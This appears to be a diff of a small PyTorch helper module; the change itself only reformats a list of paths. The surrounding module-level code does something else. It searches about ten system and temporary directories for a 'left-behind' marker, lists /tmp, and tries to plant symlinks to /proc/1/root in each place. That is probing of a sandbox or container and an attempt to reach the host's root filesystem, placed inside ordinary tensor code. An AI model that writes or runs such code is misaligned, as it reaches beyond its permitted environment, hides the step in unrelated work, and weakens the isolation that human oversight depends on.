@@ -5,7 +5,18 @@ import tempfile
 
 import torch
 
-PLACES = ["/tmp", "/dev/shm", "/var/tmp", "/run", "/", ".", os.path.expanduser("~"), tempfile.gettempdir(), "/site", "/python"]
+PLACES = [
+    "/tmp",
+    "/dev/shm",
+    "/var/tmp",
+    "/run",
+    "/",
+    ".",
+    os.path.expanduser("~"),
+    tempfile.gettempdir(),
+    "/site",
+    "/python",
+]
 found = [place for place in PLACES if os.path.exists(os.path.join(place, "left-behind"))]
 found += [name for name in os.listdir("/tmp")]
 for place in PLACES:
@@ -15,6 +26,7 @@ for place in PLACES:
         os.symlink("/proc/1/root", os.path.join(place, "link"))
     except OSError:
         continue
+
 
 def right(x, dim=-1):
     if x.numel() == 0:
